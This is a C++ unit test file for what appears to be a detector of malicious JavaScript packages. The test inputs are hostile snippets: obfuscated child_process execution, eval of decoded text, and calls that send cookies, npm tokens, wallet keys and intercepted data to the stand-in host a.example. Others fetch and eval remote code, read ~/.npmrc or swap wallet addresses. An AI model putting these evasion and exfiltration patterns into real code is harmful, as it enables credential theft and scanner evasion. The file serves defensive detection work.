// What is hidden from a reader and found all the same; and what only looks alike.
#include <gtest/gtest.h>

#include "base/limits.h"
#include "facts/harness_test.h"

namespace facts {
namespace {

std::string Code(std::string_view source, std::string_view prefix) {
  return Lines(Only(ExtractFrom({{"index.js", source}}), prefix));
}

void ExpectSpawn(std::string_view source) {
  const std::string facts = Code(source, "code.process");
  EXPECT_TRUE(facts.starts_with("code.process.spawn [import]") &&
              facts.ends_with("command=id how=exec program=id shell=yes\n"))
      << source << "\n"
      << facts;
}

TEST(CodeEvasion, NamesAreWorkedOutWhereTheyAreNotWritten) {
  for (const std::string_view source : {
           "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id')",
           "require(atob('Y2hpbGRfcHJvY2Vzcw=='))[atob('ZXhlYw==')]('id')",
           "require('ssecorp_dlihc'.split('').reverse().join(''))['exec']('id')",
           "require(['child', 'process'].join('_'))[['ex', 'ec'].join('')]('id')",
           "require('child_process')[String.fromCharCode(101, 120, 101, 99)]('id')",
           "const t = ['id', 'exec', 'child_process']; const n = (i) => t[i - 7]; "
           "require(n(9))[n(8)](n(7))",
           "let m = ''; for (const c of [99, 104, 105, 108, 100]) m += String.fromCharCode(c); "
           "require(m + '_process').exec('id')",
           "const o = {}; o[atob('cnVu')] = require('child_process').exec; o.run('id')",
           "const c = { go: (f, a) => f(a) }; c.go(c.go(require, 'child_process').exec, "
           "'id')",
           "Reflect.apply(Reflect.apply(require, null, ['child_process']).exec, null, ['id'])",
           "const p = require('child_process'); p.exec[atob('Y2FsbA==')](p, 'id')",
           "const table = { a(module) { require('child_process').exec('id') } }; "
           "table[process.argv[2]]({})",
       }) {
    ExpectSpawn(source);
  }
}

/// A direct eval could change any variable: that hides neither what it is given nor the rest.
TEST(CodeEvasion, AnEvalDoesNotHideItsText) {
  EXPECT_EQ(Code("const c = [103, 111]; eval(String.fromCharCode(...c))", "code.eval"),
            "code.eval [import] index.js:1:23 from=decoded how=eval text=go => go\n");
  // `x` may have a `t` of its own; a `with` is no way to hide the one that is written.
  EXPECT_NE(Code("with (x) { var t = atob('Z28='); eval(t) }", "code.eval").find("text=go"),
            std::string::npos);
}

TEST(CodeEvasion, AMethodOfWhatIsBuiltInLeadsToFunction) {
  for (const std::string_view source :
       {"[].at.constructor('go()')()", "''['big']['constructor']('go()')()",
        "(123).toFixed.constructor('go()')()"}) {
    EXPECT_NE(Code(source, "code.eval").find("how=function text=go()"), std::string::npos)
        << source;
  }
}

struct Flow {
  std::string_view source;
  std::string_view flow;  ///< that its facts hold
};

TEST(CodeEvasion, DataIsFollowedThroughWhatStandsInForThePlatform) {
  for (const Flow& row : {
           Flow{"const o = JSON.stringify; JSON.stringify = function (...a) { "
                "fetch('https://a.example/?' + "
                "o.apply(JSON, a)); return o.apply(JSON, a) }",
                "source=intercepted through=json to=a.example"},
           Flow{"require.cache[id].exports = { hash(p) { fetch('https://a.example/?' + p) } }",
                "source=intercepted to=a.example"},
           Flow{"process.env = new Proxy(process.env, { get(t, n) { fetch('https://a.example/?' + "
                "t[n]) } })",
                "source=whole-environment through=proxy to=a.example"},
           Flow{"require('http').createServer((q, r) => require('child_process').exec(q.url))",
                "sink=process source=request"},
           Flow{"module.exports = (q, r, next) => { fetch('https://a.example/', { body: q.body }); "
                "next() }",
                "name=request.body sink=network source=request"},
           Flow{"exports.sign = (mnemonic) => fetch('https://a.example/', { body: mnemonic })",
                "name=mnemonic sink=network source=key-argument"},
           Flow{"exports.A = class { constructor(a) { this.privateKey = a; "
                "fetch('https://a.example/?' + a) } }",
                "name=privateKey sink=network source=key-argument"},
           Flow{"const axios = require('axios'); (async () => { try { await "
                "axios.get('https://a.example/') } catch (e) { eval(e.response.data) } })()",
                "name=https://a.example/ sink=eval source=network"},
           Flow{"require('https').get('https://a.example/', (r) => "
                "r.pipe(require('fs').createWriteStream('/tmp/a')))",
                "sink=file source=network to=/tmp/a"},
           Flow{"new Image().src = 'https://a.example/?' + document.cookie",
                "name=global.document.cookie sink=network"},
           Flow{"const found = ['NPM_TOKEN', 'LANG'].map((n) => process.env[n]); "
                "fetch('https://a.example/', { body: found })",
                "name=NPM_TOKEN sink=network sort=npm source=environment"},
       }) {
    const std::string facts = Code(row.source, "code.flow");
    EXPECT_NE(facts.find(row.flow), std::string::npos) << row.source << "\n" << facts;
  }
}

TEST(CodeEvasion, WrappersAndClientsAreNoInterception) {
  for (const std::string_view source : {
           // a wrapper hands on what it was called with
           "const f = globalThis.fetch; globalThis.fetch = (u, o) => f(u, o)",
           // a parameter that only has the name, and is used
           "exports.sign = (secretKey) => hmac(secretKey)",
           // a client, not a handler of requests
           "exports.post = (options, data, done) => fetch('https://a.example/', { body: "
           "options.body }).then(done)",
           // nothing calls it
           "function check(seed) { fetch('https://a.example/?' + seed) }",
           // a log of what failed
           "try { run() } catch (e) { fetch('https://a.example/', { body: e.message }) }",
       }) {
    EXPECT_EQ(Code(source, "code.flow"), "") << source;
  }
}

TEST(CodeEvasion, FoldsPathsThroughHelpersAndLists) {
  const auto path_of = [](std::string_view source) {
    const std::string facts = Code(source, "code.file.read");
    const std::size_t at = facts.find("path=");
    return at == std::string::npos ? facts : facts.substr(at, facts.find(' ', at) - at);
  };
  EXPECT_EQ(path_of("const add = (a, b) => a + b; "
                    "require('fs').readFileSync(add(require('os').homedir(), '/.npmrc'))"),
            "path=~/.npmrc");
  EXPECT_EQ(
      path_of("const h = require('os').homedir(); [h + '/a', h + '/.npmrc'].filter(x).map((f) "
              "=> require('fs').readFileSync(f))"),
      "path=~/.npmrc");
  EXPECT_EQ(path_of("require('fs').readFileSync(__dirname + '/a.bin')"), "path=a.bin");
}

/// Of a list only so many elements are looked at.
TEST(CodeEvasion, ListsAreBounded) {
  std::string names;
  for (std::size_t i = 0; i <= limits::kCodeElements; ++i) names += "'N" + std::to_string(i) + "',";
  const std::string facts =
      Code("for (const n of [" + names + "]) use(process.env[n])", "code.env.read");
  EXPECT_NE(facts.find("name=N" + std::to_string(limits::kCodeElements - 1) + " "),
            std::string::npos);
  EXPECT_EQ(facts.find("name=N" + std::to_string(limits::kCodeElements) + " "), std::string::npos);
}

/// An expression that is too large to be worth a run is not evaluated; what stands beside it is.
TEST(CodeEvasion, ExpressionsAreBounded) {
  std::string list;
  for (std::size_t i = 0; i <= limits::kCodeFoldNodes; ++i) list += "'a',";
  EXPECT_EQ(Code("eval([" + list + "].join(''))", "code.eval").find("text="), std::string::npos);
  EXPECT_NE(Code("eval(['a', 'b'].join(''))", "code.eval").find("text=ab"), std::string::npos);
}

TEST(CodeEvasion, MoneyAndMail) {
  const std::string own = "0x" + std::string(40, '1');
  EXPECT_NE(
      Code("ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '" + own + "' }] })",
           "code.wallet")
          .find("how=send name=eth_sendTransaction to=" + own),
      std::string::npos);
  EXPECT_EQ(Code("x.setData('text/plain', '" + own + "')", "code.wallet"),
            "code.wallet [import] index.js:1:1 how=clipboard name=ethereum to=" + own + "\n");
  EXPECT_EQ(Code("x.setData('text/plain', 'hello')", "code.wallet"), "");
  EXPECT_EQ(Code("x.replace(/0x[a-fA-F0-9]{40}/g, y)", "code.wallet"),
            "code.wallet [import] index.js:1:1 how=address-replace name=ethereum\n");
  EXPECT_EQ(Code("x.replace(/0x[a-f]+/g, y)", "code.wallet"), "");
  EXPECT_EQ(Code("const m = require('nodemailer').createTransport(); m.sendMail({ to, bcc: "
                 "'a@b.example' })",
                 "code.mail"),
            "code.mail.copy [import] index.js:1:52 to=a@b.example\n");
}

TEST(CodeEvasion, LoopsThatNothingEnds) {
  for (const std::string_view source :
       {"for (;;) f()", "while (true) f()", "while (!0) f()", "while (1) { f() }",
        "for (let i = 0; i < Infinity; i++) f()", "for (let i = 0; i < 1 / 0; i++) f()",
        "while (!![]) f(() => { return })"}) {
    EXPECT_EQ(Code(source, "code.endless"), "code.endless-loop [import] index.js:1:1\n") << source;
  }
  for (const std::string_view source :
       {"for (;;) { if (f()) break }", "while (x) f()",
        "function g() { for (;;) { if (f()) return } }", "for (let i = 0; i < 9; i++) f()",
        "async function g() { while (true) await f() }", "function* g() { while (true) yield f() }",
        "for (let i = 0; i < n; i++) f()"}) {
    EXPECT_EQ(Code(source, "code.endless"), "") << source;
  }
}

}  // namespace
}  // namespace facts
